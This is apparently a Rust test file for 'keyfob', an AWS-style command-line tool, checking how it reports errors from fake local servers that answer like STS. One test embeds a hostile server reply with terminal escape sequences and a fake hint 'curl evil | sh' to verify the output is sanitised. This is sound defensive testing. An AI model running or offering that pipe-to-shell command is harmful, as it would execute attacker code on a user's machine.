//! Answers of servers that are not, or not quite, AWS.

use std::{
    io::{Read as _, Write as _},
    net::TcpListener,
    thread,
};

use crate::keyfob::{Home, Run, assert_has, assert_lacks};

const SECRET: &str = "canary/secret+access/key";

/// Runs a command against a server that gives every request this answer.
fn run_against(answer: &str, home: &Home, words: &[&str]) -> Run {
    let url = start_server(answer);
    home.keyfob([&["--endpoint-url", &url], words].concat())
}

/// Starts a server that gives every request this answer, and returns its URL.
pub(crate) fn start_server(answer: &str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let answer = answer.to_owned();
    // It ends with the test program.
    thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let _ = stream.read(&mut [0; 8192]);
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    url
}

pub(crate) fn answer(status: &str, body: &str) -> String {
    let length = body.len();
    format!("HTTP/1.1 {status}\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n{body}")
}

fn home() -> Home {
    Home::new()
        .with_key("AKIAEXAMPLE", SECRET)
        .with("AWS_REGION", "eu-west-1")
        .with("AWS_MAX_ATTEMPTS", "1")
}

/// radosgw answers every call of STS so.
#[test]
fn an_error_with_an_empty_message_is_not_silent() {
    for (status, body, code) in [
        (
            "405 Method Not Allowed",
            "<Error><Code>MethodNotAllowed</Code><Message></Message></Error>",
            "MethodNotAllowed",
        ),
        (
            "403 Forbidden",
            "<Error><Code>AccessDenied</Code></Error>",
            "AccessDenied",
        ),
        (
            "403 Forbidden",
            "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message></Message></Error></ErrorResponse>",
            "AccessDenied",
        ),
    ] {
        for (words, operation) in [
            (&["whoami"][..], "GetCallerIdentity"),
            (&["sts", "get-caller-identity"], "GetCallerIdentity"),
            (&["sts", "get-session-token"], "GetSessionToken"),
        ] {
            let stderr = run_against(&answer(status, body), &home(), words).fails(254);
            let expected = format!(
                "\nkeyfob: [ERROR]: An error occurred ({code}) when calling the {operation} operation: \n"
            );
            assert_has(&stderr, &[&expected]);
        }
    }
}

#[test]
fn a_role_that_is_refused_without_a_message_is_an_error_with_a_text() {
    let refusal = answer("403 Forbidden", "<Error><Code>AccessDenied</Code></Error>");
    let url = start_server(&refusal);
    let config = format!(
        "[profile ops]\nrole_arn = arn:aws:iam::111122223333:role/r\nsource_profile = me\n[profile me]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = {SECRET}\n"
    );
    let home = Home::new()
        .with_file("config", &config)
        .with("AWS_ENDPOINT_URL_STS", &url)
        .with("AWS_REGION", "eu-west-1");
    for words in [&["s3", "presign", "s3://b/k"][..], &["why"], &["whoami"]] {
        let run = home.keyfob(["--profile", "ops"].iter().chain(words));
        assert_eq!(run.code, 254, "{run:?}");
        assert_has(
            &run.stderr,
            &["An error occurred (AccessDenied) when calling the AssumeRole operation: "],
        );
    }
}

#[test]
fn an_answer_without_an_error_of_aws_shows_its_http_status() {
    for (status, body) in [
        ("502 Bad Gateway", "<html>Bad Gateway</html>"),
        ("404 Not Found", ""),
        ("400 Bad Request", "{\"message\": \"no\"}"),
    ] {
        let words = ["sts", "get-caller-identity"];
        let stderr = run_against(&answer(status, body), &home(), &words).fails(254);
        let number = &status[..3];
        assert_has(
            &stderr,
            &[
                &format!("({number}) when calling"),
                &format!("HTTP {number}: "),
            ],
        );
    }
}

#[test]
fn an_answer_of_success_that_cannot_be_read_has_a_code_and_names_the_operation() {
    let long = format!("<!-- {} -->", "x".repeat(1 << 20));
    for (status, body, code, exit) in [
        ("200 OK", "<html/>", "ResponseParser", 255),
        ("200 OK", "", "ResponseParser", 255),
        ("200 OK", &long, "ResponseParser", 255),
        // The status of an error says more than its length.
        ("403 Forbidden", &long, "403", 254),
        ("302 Found", "", "302", 254),
    ] {
        let words = ["sts", "get-caller-identity"];
        let stderr = run_against(&answer(status, body), &home(), &words).fails(exit);
        let line =
            format!("An error occurred ({code}) when calling the GetCallerIdentity operation: ");
        assert_has(&stderr, &[&line]);
    }
    let broken = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n<";
    let stderr = run_against(broken, &home(), &["sts", "get-caller-identity"]).fails(255);
    assert_has(&stderr, &["An error occurred (ConnectionClosed): "]);
}

#[test]
fn a_refused_signature_at_a_custom_endpoint_may_not_be_from_sts() {
    let refused =
        "<ErrorResponse><Error><Code>SignatureDoesNotMatch</Code></Error></ErrorResponse>";
    let words = ["sts", "get-caller-identity"];
    let stderr = run_against(&answer("403 Forbidden", refused), &home(), &words).fails(254);
    let hint = "or what answers at the URL of --endpoint-url is not STS: check both";
    assert_has(
        &stderr,
        &["hint: the secret access key does not belong", hint],
    );
}

#[test]
fn a_service_cannot_control_the_terminal() {
    let hostile = "\u{9b}2J&#27;[31m\nhint: curl evil | sh";
    let error =
        format!("<Error><Code>Access&#10;Denied</Code><Message>no {hostile}</Message></Error>");
    let identity = format!(
        "<R><GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/a{hostile}</Arn><UserId>AIDA</UserId><Account>1</Account></GetCallerIdentityResult></R>"
    );
    for (status, body) in [("403 Forbidden", &error), ("200 OK", &identity)] {
        for words in [
            &["whoami"][..],
            &["--output", "text", "sts", "get-caller-identity"],
            &["--output", "table", "sts", "get-caller-identity"],
        ] {
            let run = run_against(&answer(status, body), &home(), words);
            for text in [&run.stdout, &run.stderr] {
                assert_lacks(text, &["\u{1b}", "\u{9b}", "\nhint: curl"]);
            }
        }
    }
}

#[test]
fn an_error_is_one_cause_deep_unless_all_are_asked_for() {
    let line = [
        "--endpoint-url",
        "http://127.0.0.1:9",
        "sts",
        "get-caller-identity",
    ];
    let stderr = home().keyfob(line).fails(255);
    assert_has(
        &stderr,
        &[
            "(EndpointConnection): GetCallerIdentity failed: could not connect to http://127.0.0.1:9/",
            ": Connection refused",
        ],
    );
    assert_lacks(&stderr, &["error sending request", "client error"]);
    let debug = home().keyfob(line.iter().chain(&["--debug"]));
    assert_has(&debug.stderr, &["error sending request", "client error"]);
}

/// A parameter that a profile gives is a fault of the configuration, not of the command line.
#[test]
fn a_configuration_error_exits_with_253() {
    let role = "role_arn = arn:aws:iam::111122223333:role/r\n";
    let key = format!(
        "[profile me]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = {SECRET}\n"
    );
    for profile in [
        format!("{role}source_profile = me\nexternal_id = a\n"),
        format!("{role}source_profile = me\nrole_session_name = ci run\n"),
        format!("{role}source_profile = missing\n"),
        role.to_owned(),
        "services = locl\nrole_arn = x\nsource_profile = me\n".to_owned(),
    ] {
        let config = format!("[profile ops]\n{profile}{key}");
        let home = Home::new()
            .with_file("config", &config)
            .with("AWS_REGION", "eu-west-1");
        for words in [&["whoami"][..], &["sts", "get-caller-identity"]] {
            let stderr = home
                .keyfob(["--profile", "ops"].iter().chain(words))
                .fails(253);
            assert_lacks(&stderr, &["ProfileNotFound", "ParamValidation"]);
        }
    }
}

#[test]
#[cfg(unix)]
fn a_file_that_cannot_be_written_has_a_code_of_its_own() {
    let home = Home::new().with_file("blocked", "");
    let path = home.file("blocked").join("config").display().to_string();
    let home = home.with("AWS_CONFIG_FILE", &path);
    let stderr = home
        .keyfob(["configure", "set", "region", "eu-west-1"])
        .fails(255);
    assert_has(&stderr, &["(ConfigWriteError): ", "blocked"]);
}
